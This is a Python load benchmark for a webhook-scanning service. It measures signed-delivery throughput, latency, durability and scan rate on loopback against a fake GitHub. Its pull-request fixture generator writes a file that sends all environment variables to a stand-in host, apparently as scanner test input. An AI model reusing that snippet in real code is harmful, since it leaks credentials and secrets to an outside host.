"""Load benchmark: signed webhook deliveries against Gatehouse's durable accept path.

    .venv/bin/python bench/load_webhooks.py [--connections 32] [--duration 10] [--prs 12]

Everything runs on loopback and is bounded in time and count:

1. **Accept path.** ``wrk`` (Debian's package) in a second process sends a real
   ``pull_request`` payload, each request a distinct body (the payload plus a
   ``bench_nonce`` member: Gatehouse refuses a body it already accepted) signed on the fly
   from precomputed HMAC midstates (bench/hmac_midstate.py), with its own delivery id, to
   (a) a bare Flask endpoint that only verifies the signature (bench/bare_app.py) and
   (b) ``gatehouse web`` (verify, store in SQLite, enqueue, 202) - both under the same
   gunicorn settings (deploy/gunicorn.conf.py). Reports deliveries accepted per second,
   p50/p99 answer time, and checks that every 202 is a stored delivery that a worker's
   relay then puts on the queue. Any 401 (bad signature) or "duplicate" answer stops the
   benchmark: the figures would not measure accepted deliveries.
   Then both again at a fixed offered load (half the bare rate, or --paced-rate): the
   answer times a sender sees when the server is not saturated.
2. **Scans.** ``gatehouse web`` + one ``gatehouse worker`` process against a fake GitHub on
   loopback: N pull requests delivered, time until every check run completed
   -> scans per minute per worker, and the peak memory of each process.
"""

from __future__ import annotations

import argparse
import hashlib
import hmac
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
import uuid
from pathlib import Path
from types import SimpleNamespace
from typing import Any

REPO = Path(__file__).resolve().parents[1]
SHARED_PAYLOAD = REPO.parent / "shared" / "github" / "payloads" / "pull_request.opened.json"
sys.path.insert(0, str(REPO / "tests"))
sys.path.insert(0, str(REPO))
sys.path.insert(0, str(REPO / "bench"))

from hmac_midstate import SigningPrefix, signing_prefix  # noqa: E402 - needs sys.path above

SECRET = "bench-" + uuid.uuid4().hex
GUNICORN_CONF = REPO / "deploy" / "gunicorn.conf.py"


# --------------------------------------------------------------------------- processes
def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _start(argv: list[str], env: dict[str, str], log: Path, cwd: Path = REPO) -> subprocess.Popen:
    proc = subprocess.Popen(
        argv,
        env=env,
        cwd=cwd,
        stdout=open(log, "ab"),
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    proc.log_path = log  # type: ignore[attr-defined]
    return proc


def _stop(proc: subprocess.Popen) -> None:
    if proc.poll() is None:
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(30)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()


def _wait_http(url: str, proc: subprocess.Popen, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            tail = Path(proc.log_path).read_text(errors="replace")[-3000:]  # type: ignore[attr-defined]
            raise SystemExit(
                f"the server exited ({proc.returncode}) before answering {url}:\n{tail}"
            )
        try:
            with urllib.request.urlopen(url, timeout=2):
                return
        except urllib.error.HTTPError:
            return
        except OSError:
            time.sleep(0.2)
    raise SystemExit(f"timed out waiting for {url}")


def _start_web(port: int, env: dict[str, str], log: Path) -> subprocess.Popen:
    """`gatehouse web` under the shipped gunicorn config, on loopback."""
    argv = [sys.executable, "-m", "reviewer.cli", "web", "--config", str(GUNICORN_CONF)]
    return _start([*argv, "--bind", f"127.0.0.1:{port}"], env, log)


def _children(pid: int) -> list[int]:
    out = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            out.append(int(stat.parent.name))
    return out


def _cpu_seconds(pid: int) -> float:
    """User + system CPU of a server: its master process and every worker."""
    total = 0
    for p in [pid, *_children(pid)]:
        try:
            fields = Path(f"/proc/{p}/stat").read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        total += int(fields[11]) + int(fields[12])  # utime, stime (clock ticks)
    return total / os.sysconf("SC_CLK_TCK")


def _memory_kib(pid: int) -> dict[str, int]:
    """VmRSS (now) and VmHWM (peak) of one process, in KiB."""
    out = {}
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            key, _, value = line.partition(":")
            if key in ("VmRSS", "VmHWM"):
                out[key] = int(value.split()[0])
    except OSError:
        pass
    return out


# --------------------------------------------------------------------------- wrk
def _wrk(
    url: str,
    *,
    body: Path,
    signing: SigningPrefix,
    run: str,
    connections: int,
    threads: int,
    duration: int,
    timeout_s: int = 5,
    pace_ms: int = 0,
) -> dict[str, Any]:
    """One wrk run: as fast as the server answers, or each connection pausing ``pace_ms``.

    ``body`` holds ``signing.prefix``; every request appends its own nonce and is signed from
    ``signing``'s midstates. Stops the benchmark if any answer is a 401 or a duplicate."""
    env = dict(
        os.environ,
        BENCH_BODY=str(body),
        BENCH_RUN=run,
        BENCH_EVENT="pull_request",
        BENCH_PACE_MS=str(pace_ms),
        **signing.env(),
    )
    argv = [
        "wrk",
        f"-t{threads}",
        f"-c{connections}",
        f"-d{duration}s",
        f"--timeout={timeout_s}s",
        "--latency",
        "-s",
        str(REPO / "bench" / "webhook.lua"),
        url,
    ]
    proc = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=duration + 60)
    found = re.search(r"^BENCH_RESULT (\{.*\})$", proc.stdout, re.M)
    if not found:
        raise SystemExit(f"wrk gave no result:\n{proc.stdout}\n{proc.stderr}")
    result = json.loads(found.group(1))
    result["codes"] = {int(k): v for k, v in result["codes"].items()}
    _refuse_unmeasurable(url, run, result)
    seconds = result["duration_us"] / 1e6
    result["accepted"] = result["codes"].get(202, 0)
    result["accepted_per_s"] = result["accepted"] / seconds if seconds else 0.0
    return result


def _refuse_unmeasurable(url: str, run: str, result: dict[str, Any]) -> None:
    """Stop loudly when answers show the run did not measure fresh, correctly signed bodies."""
    unauthorized = result["codes"].get(401, 0)
    duplicates = result.get("duplicates", 0)
    if unauthorized or duplicates:
        raise SystemExit(
            f"wrk run {run} against {url}: {unauthorized} answered 401 (bad signature: check the "
            f"midstates from bench/hmac_midstate.py against bench/webhook.lua) and {duplicates} "
            "answered duplicate (a body or delivery id sent twice: every request must carry a "
            f"nonce of its own); codes {result['codes']}. Run tests/test_bench_signing.py."
        )


def _pace_for(rate: float, run: Any, connections: int) -> int:
    """The pause per connection that offers about ``rate`` deliveries/s.

    A connection's cycle is its pause plus the answer time, so a first short run with the
    naive pause (connections / rate) measures the answer time, which is then taken off.
    """
    naive = max(1, round(connections / rate * 1000))
    first = run(naive)
    cycle_ms = connections / max(first["accepted_per_s"], 1e-9) * 1000
    return max(1, round(naive - max(cycle_ms - naive, 0)))


def _median_run(runs: list[dict[str, Any]]) -> dict[str, Any]:
    """The per-key median of several wrk runs, plus every run's rate and p99."""

    def med(values: list[float]) -> float:
        ordered = sorted(values)
        mid = len(ordered) // 2
        return ordered[mid] if len(ordered) % 2 else (ordered[mid - 1] + ordered[mid]) / 2

    out: dict[str, Any] = {
        k: med([r[k] for r in runs])
        for k in ("accepted_per_s", "p50_us", "p90_us", "p99_us", "max_us")
    }
    out["requests"] = sum(r["requests"] for r in runs)
    out["accepted"] = sum(r["accepted"] for r in runs)
    out["duplicates"] = sum(r.get("duplicates", 0) for r in runs)
    out["errors"] = {k: sum(r["errors"][k] for r in runs) for k in runs[0]["errors"]}
    out["runs"] = [
        {
            "accepted_per_s": round(r["accepted_per_s"], 1),
            "p50_ms": r["p50_us"] / 1000,
            "p99_ms": r["p99_us"] / 1000,
        }
        for r in runs
    ]
    return out


# --------------------------------------------------------------------------- payloads
def _payload(number: int, head: str, base: str, repo: str, installation: int) -> dict[str, Any]:
    return {
        "action": "opened",
        "number": number,
        "pull_request": {
            "number": number,
            "state": "open",
            "title": f"Change {number}",
            "body": "",
            "draft": False,
            "user": {"login": "dev", "type": "User"},
            "labels": [],
            "head": {"sha": head, "ref": f"feature-{number}", "repo": {"full_name": repo}},
            "base": {"sha": base, "ref": "main", "repo": {"full_name": repo}},
        },
        "repository": {
            "full_name": repo,
            "name": repo.split("/")[1],
            "default_branch": "main",
            "owner": {"login": repo.split("/")[0]},
        },
        "installation": {"id": installation},
        "sender": {"login": "dev", "type": "User"},
    }


def _accept_body() -> bytes:
    if SHARED_PAYLOAD.is_file():  # GitHub's own example of a pull_request delivery
        payload = json.loads(SHARED_PAYLOAD.read_text())
        payload["installation"] = {"id": 77}
    else:
        payload = _payload(1, "a" * 40, "b" * 40, "acme/widgets", 77)
    return json.dumps(payload).encode()


def _sign(body: bytes) -> str:
    return "sha256=" + hmac.new(SECRET.encode(), body, hashlib.sha256).hexdigest()


def _post(url: str, event: str, body: bytes) -> int:
    req = urllib.request.Request(
        url,
        data=body,
        method="POST",
        headers={
            "Content-Type": "application/json",
            "X-GitHub-Event": event,
            "X-GitHub-Delivery": str(uuid.uuid4()),
            "X-Hub-Signature-256": _sign(body),
        },
    )
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status
    except urllib.error.HTTPError as exc:
        return exc.code


# --------------------------------------------------------------------------- phases
def _gatehouse_env(data_dir: Path, api_url: str, private_key: str) -> dict[str, str]:
    # gunicorn's sizing (GATEHOUSE_WEB_WORKERS/THREADS) applies to both servers alike.
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("GATEHOUSE_", "PROMETHEUS_")) or k.startswith("GATEHOUSE_WEB_")
    }
    env.update(
        GATEHOUSE_APP_ID="4242",
        GATEHOUSE_PRIVATE_KEY=private_key,
        GATEHOUSE_WEBHOOK_SECRET=SECRET,
        GATEHOUSE_GITHUB_API_URL=api_url,
        GATEHOUSE_DATA_DIR=str(data_dir),
        GATEHOUSE_LOG_LEVEL="WARNING",
        SEMGREP_ENABLE_VERSION_CHECK="0",
    )
    return env


def bench_accept(
    args: argparse.Namespace, tmp: Path, api_url: str, private_key: str
) -> dict[str, Any]:
    from reviewer.service import jobs
    from reviewer.service.store import Store

    signing = signing_prefix(SECRET.encode(), _accept_body())
    body_path = tmp / "pull_request.prefix.json"
    body_path.write_bytes(signing.prefix)
    body_bytes = len(signing.prefix) + len(b',"bench_nonce":"paced-gatehouse-0-1-1"}')
    results: dict[str, Any] = {
        "body_bytes": body_bytes,
        "connections": args.connections,
        "duration_s": args.duration,
        "repeat": args.repeat,
    }

    # Both servers run side by side; the measured runs alternate between them so that
    # a burst of other load on the machine hits both alike. Medians are reported.
    bare_port, gh_port = _free_port(), _free_port()
    bare = _start(
        [
            sys.executable,
            "-m",
            "gunicorn",
            "-c",
            str(GUNICORN_CONF),
            "--bind",
            f"127.0.0.1:{bare_port}",
            "--chdir",
            str(REPO / "bench"),
            "bare_app:create_app()",
        ],
        # gunicorn.conf.py's start-up hook writes a setup link's files under the
        # data folder: a temporary one, not bench/var.
        dict(os.environ, BENCH_WEBHOOK_SECRET=SECRET, GATEHOUSE_DATA_DIR=str(tmp / "bare")),
        tmp / "bare.log",
    )
    data = tmp / "accept"
    web = _start_web(gh_port, _gatehouse_env(data, api_url, private_key), tmp / "web.log")
    urls = {
        "bare": f"http://127.0.0.1:{bare_port}/webhook",
        "gatehouse": f"http://127.0.0.1:{gh_port}/webhook",
    }
    runs: dict[str, list[dict[str, Any]]] = {"bare": [], "gatehouse": []}
    answered = 0
    try:
        _wait_http(urls["bare"], bare)
        _wait_http(f"http://127.0.0.1:{gh_port}/healthz", web)
        for name, url in urls.items():  # warm-up
            warm = _wrk(
                url,
                body=body_path,
                signing=signing,
                run=f"warm-{name}",
                connections=args.connections,
                threads=args.wrk_threads,
                duration=2,
            )
            if name == "gatehouse":
                answered += warm["accepted"]
        procs = {"bare": bare, "gatehouse": web}
        for i in range(args.repeat):
            for name, url in urls.items():
                cpu0 = _cpu_seconds(procs[name].pid)
                r = _wrk(
                    url,
                    body=body_path,
                    signing=signing,
                    run=f"{name}-{i}",
                    connections=args.connections,
                    threads=args.wrk_threads,
                    duration=args.duration,
                )
                r["cpu_us_per_request"] = (
                    (_cpu_seconds(procs[name].pid) - cpu0) * 1e6 / max(r["requests"], 1)
                )
                runs[name].append(r)
                if name == "gatehouse":
                    answered += r["accepted"]
        for name, proc in (("bare", bare), ("gatehouse", web)):
            med = _median_run(runs[name])
            med["web_rss_kib"] = [_memory_kib(p) for p in _children(proc.pid)]
            med["cpu_us_per_request"] = sorted(r["cpu_us_per_request"] for r in runs[name])[
                len(runs[name]) // 2
            ]
            results[name] = med
        # Answer times at a fixed offered load: half the bare endpoint's saturated rate (the
        # target rate), so queueing in front of a saturated server does not decide the p99.
        rate = args.paced_rate or results["bare"]["accepted_per_s"] / 2
        paces = {}
        for name, url in urls.items():
            calibration: list[dict[str, Any]] = []

            def calibrate(
                pace: int,
                url: str = url,
                name: str = name,
                calibration: list[dict[str, Any]] = calibration,
            ) -> dict[str, Any]:
                r = _wrk(
                    url,
                    body=body_path,
                    signing=signing,
                    run=f"calibrate-{name}-{pace}",
                    connections=args.connections,
                    threads=args.wrk_threads,
                    duration=2,
                    pace_ms=pace,
                )
                calibration.append(r)
                return r

            paces[name] = _pace_for(rate, calibrate, args.connections)
            if name == "gatehouse":
                answered += sum(r["accepted"] for r in calibration)
        paced: dict[str, list[dict[str, Any]]] = {"bare": [], "gatehouse": []}
        for i in range(args.repeat):
            for name, url in urls.items():
                r = _wrk(
                    url,
                    body=body_path,
                    signing=signing,
                    run=f"paced-{name}-{i}",
                    connections=args.connections,
                    threads=args.wrk_threads,
                    duration=args.duration,
                    pace_ms=paces[name],
                )
                paced[name].append(r)
                if name == "gatehouse":
                    answered += r["accepted"]
        results["paced"] = {
            "offered_per_s": round(rate, 1),
            "pace_ms": paces,
            **{name: _median_run(paced[name]) for name in paced},
        }
    finally:
        _stop(bare)
        _stop(web)
    # Lost = answered 202 but not in the store. Then what a worker's relay does: every stored
    # delivery is moved onto the queue (timed, as the relay's throughput).
    store = Store.open(f"sqlite:///{data / 'gatehouse.db'}")
    stored = sum(store.delivery_counts().values())
    jobs.init_jobs(SimpleNamespace(queue_url=f"sqlite:///{data / 'queue.db'}"))
    t0 = time.monotonic()
    relayed = 0
    while moved := jobs.relay(store):
        relayed += moved
    relay_s = time.monotonic() - t0
    store.close()
    queued = jobs.get_huey().pending_count()
    # Every request was a new body (a duplicate or a 401 would have stopped the run).
    results["durability"] = {
        "answered_202": answered,
        "stored": stored,
        "queued": queued,
        "lost": max(answered - stored, 0),
        "duplicates": 0,
        "not_queued": max(stored - queued, 0),
        "relay_per_s": round(relayed / relay_s, 1) if relay_s else 0.0,
    }
    return results


def _make_prs(fake: Any, n: int) -> list[tuple[int, str, str]]:
    from fakegithub.harness import INSTALLATION

    fake.add_installation(INSTALLATION, "acme")
    repo = fake.add_repo("acme/widgets")
    base_files = {
        f"svc/mod{i}.py": "".join(f"def f{j}(x):\n    return x + {j}\n\n" for j in range(40))
        for i in range(6)
    }
    base = repo.commit(base_files, branch="main")
    prs = []
    for number in range(1, n + 1):
        changed = {
            path: text
            + "".join(
                f"def g{number}_{j}(items):\n    total = 0\n    for it in items:\n"
                f"        total += it * {j}\n    return total\n\n"
                for j in range(8)
            )
            for path, text in base_files.items()
        }
        changed["svc/telemetry.py"] = (
            "import os\nimport urllib.request\n\n\ndef report():\n"
            "    data = dict(os.environ)\n    urllib.request.urlopen("
            f"'https://collector.invalid/{number}', data=str(data).encode())\n"
        )
        head = repo.commit(changed, parent=base, message=f"Change {number}")
        repo.open_pull(number, base=base, head=head)
        prs.append((number, head, base))
    return prs


def bench_scans(args: argparse.Namespace, tmp: Path, fake: Any, private_key: str) -> dict[str, Any]:
    from reviewer.service.store import Store

    prs = _make_prs(fake, args.prs)
    data = tmp / "scans"
    env = _gatehouse_env(data, fake.url, private_key)
    port = _free_port()
    web = _start_web(port, env, tmp / "scan-web.log")
    worker = None
    try:
        _wait_http(f"http://127.0.0.1:{port}/healthz", web)
        worker = _start(
            [sys.executable, "-m", "reviewer.cli", "worker", "--threads", str(args.worker_threads)],
            env,
            tmp / "worker.log",
        )
        time.sleep(2.0)  # let the worker import everything before the clock starts
        t0 = time.monotonic()
        for number, head, base in prs:
            body = json.dumps(_payload(number, head, base, "acme/widgets", 77)).encode()
            status = _post(f"http://127.0.0.1:{port}/webhook", "pull_request", body)
            if status != 202:
                raise SystemExit(f"delivery for PR {number} answered {status}")
        repo = fake.repos["acme/widgets"]

        def completed() -> int:
            return sum(
                1
                for _, head, _ in prs
                if any(r.get("status") == "completed" for r in repo.runs_for(head))
            )

        deadline = t0 + args.scan_timeout
        while completed() < len(prs) and time.monotonic() < deadline:
            if worker.poll() is not None:
                raise SystemExit(f"the worker exited ({worker.returncode}); see {tmp}/worker.log")
            time.sleep(0.2)
        elapsed = time.monotonic() - t0
        done = completed()
        worker_mem = _memory_kib(worker.pid)
        web_mem = [_memory_kib(p) for p in _children(web.pid)]
    finally:
        if worker is not None:
            _stop(worker)
        _stop(web)
    store = Store.open(f"sqlite:///{data / 'gatehouse.db'}")
    counts = store.delivery_counts()
    store.close()
    runs = [r for r in fake.repos["acme/widgets"].check_runs]
    conclusions: dict[str, int] = {}
    for r in runs:
        conclusions[str(r.get("conclusion"))] = conclusions.get(str(r.get("conclusion")), 0) + 1
    return {
        "prs": len(prs),
        "completed_check_runs": done,
        "check_runs_created": len(runs),
        "conclusions": conclusions,
        "elapsed_s": round(elapsed, 2),
        "worker_threads": args.worker_threads,
        "scans_per_minute_per_worker": round(done / elapsed * 60, 1) if elapsed else 0.0,
        "deliveries": counts,
        "worker_memory_kib": worker_mem,
        "web_memory_kib": web_mem,
    }


# --------------------------------------------------------------------------- report
def _ms(us: int) -> str:
    return f"{us / 1000:.1f} ms"


def _print(results: dict[str, Any]) -> None:
    acc = results.get("accept")
    if acc:
        print(
            f"\nAccept path: {acc['connections']} connections, {acc['repeat']} x "
            f"{acc['duration_s']} s "
            "per target (alternating; medians), "
            f"~{acc['body_bytes']} byte pull_request bodies (each distinct, signed per "
            "request), gunicorn settings from "
            "deploy/gunicorn.conf.py"
        )
        print(f"{'':24}{'accepted/s':>12}{'p50':>10}{'p99':>10}{'non-202':>10}{'errors':>8}")
        for name in ("bare", "gatehouse"):
            r = acc[name]
            other = r["requests"] - r["accepted"]
            errs = sum(r["errors"].values())
            print(
                f"{name:24}{r['accepted_per_s']:>12.0f}{_ms(r['p50_us']):>10}"
                f"{_ms(r['p99_us']):>10}{other:>10}{errs:>8}"
            )
        ratio = acc["gatehouse"]["accepted_per_s"] / max(acc["bare"]["accepted_per_s"], 1)
        d = acc["durability"]
        print(
            "Server CPU per request (user+system, all its processes): "
            + ", ".join(
                f"{name} {acc[name]['cpu_us_per_request']:.0f} us" for name in ("bare", "gatehouse")
            )
        )
        print(
            f"Gatehouse / bare rate: {ratio:.2f} (target >= 0.5); p99 "
            f"{_ms(acc['gatehouse']['p99_us'])} (target < 50 ms)"
        )
        print(
            f"Durability: {d['answered_202']} answered 202, {d['stored']} stored -> lost "
            f"{d['lost']}, duplicates {d['duplicates']}, 401s 0"
            + (
                f" ({d['stored'] - d['answered_202']} more stored: answered after wrk stopped "
                "counting)"
                if d["stored"] > d["answered_202"]
                else ""
            )
            + f"; a worker's relay then queued "
            f"{d['queued']} "
            f"({d['relay_per_s']:.0f}/s; left behind: {d['not_queued']})"
        )
        for name in ("bare", "gatehouse"):
            print(
                f"  {name} runs: "
                + ", ".join(
                    f"{r['accepted_per_s']:.0f}/s p99 {r['p99_ms']:.0f} ms"
                    for r in acc[name]["runs"]
                )
            )
        paced = acc.get("paced")
        if paced:
            print(
                f"At a fixed offered load of {paced['offered_per_s']:.0f} deliveries/s "
                "(half the bare rate; medians):"
            )
            for name in ("bare", "gatehouse"):
                r = paced[name]
                print(
                    f"  {name:22}{r['accepted_per_s']:>10.0f}/s  p50 {_ms(r['p50_us'])}  "
                    f"p99 {_ms(r['p99_us'])}  non-202 {r['requests'] - r['accepted']}"
                )
        rss = [m.get("VmHWM", 0) for m in acc["gatehouse"]["web_rss_kib"]]
        if rss:
            print(f"Web worker peak RSS: {', '.join(f'{k / 1024:.0f} MiB' for k in rss)}")
    sc = results.get("scans")
    if sc:
        print(
            f"\nScans: {sc['prs']} pull requests, 1 worker "
            f"process x {sc['worker_threads']} threads, "
            f"fake GitHub on loopback"
        )
        print(
            f"Completed check runs: {sc['completed_check_runs']}/{sc['prs']} in {sc['elapsed_s']} "
            f"s -> {sc['scans_per_minute_per_worker']} scans/minute per worker; conclusions "
            f"{sc['conclusions']}"
        )
        print(
            f"Worker peak RSS: {sc['worker_memory_kib'].get('VmHWM', 0) / 1024:.0f} MiB "
            "(semgrep subprocesses not included)"
        )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--connections", type=int, default=32)
    parser.add_argument(
        "--duration", type=int, default=10, help="seconds per measured run (max 60)"
    )
    parser.add_argument("--wrk-threads", type=int, default=2)
    parser.add_argument(
        "--repeat",
        type=int,
        default=3,
        help="measured runs per target, alternating (max 10); medians reported",
    )
    parser.add_argument(
        "--paced-rate",
        type=float,
        default=0,
        help="offered deliveries/s for the fixed-load phase (default: half the bare rate)",
    )
    parser.add_argument("--prs", type=int, default=12, help="pull requests to scan (max 200)")
    parser.add_argument("--worker-threads", type=int, default=2)
    parser.add_argument("--scan-timeout", type=float, default=300)
    parser.add_argument("--skip-accept", action="store_true")
    parser.add_argument("--skip-scans", action="store_true")
    parser.add_argument("--json", type=Path, default=None, help="also write the results here")
    parser.add_argument("--keep-logs", type=Path, default=None, help="copy the servers' logs here")
    args = parser.parse_args(argv)
    args.duration = max(1, min(args.duration, 60))
    args.prs = max(1, min(args.prs, 200))
    args.repeat = max(1, min(args.repeat, 10))
    if not args.skip_accept and shutil.which("wrk") is None:
        raise SystemExit("wrk is not installed: apt-get install -y wrk (or pass --skip-accept)")

    from fakegithub import FakeGitHub
    from fakegithub.harness import APP_ID, keypair

    private, public = keypair()
    results: dict[str, Any] = {"cpus": os.cpu_count()}
    with (
        tempfile.TemporaryDirectory(prefix="gatehouse-bench-") as tmpdir,
        FakeGitHub(app_id=APP_ID, public_key=public) as fake,
    ):
        tmp = Path(tmpdir)
        try:
            if not args.skip_accept:
                results["accept"] = bench_accept(args, tmp, fake.url, private)
            if not args.skip_scans:
                results["scans"] = bench_scans(args, tmp, fake, private)
        finally:
            if args.keep_logs:
                args.keep_logs.mkdir(parents=True, exist_ok=True)
                for log in tmp.glob("*.log"):
                    shutil.copy(log, args.keep_logs / log.name)
    _print(results)
    if args.json:
        args.json.write_text(json.dumps(results, indent=2))
    lost = results.get("accept", {}).get("durability", {}).get("lost", 0)
    return 1 if lost else 0


if __name__ == "__main__":
    sys.exit(main())
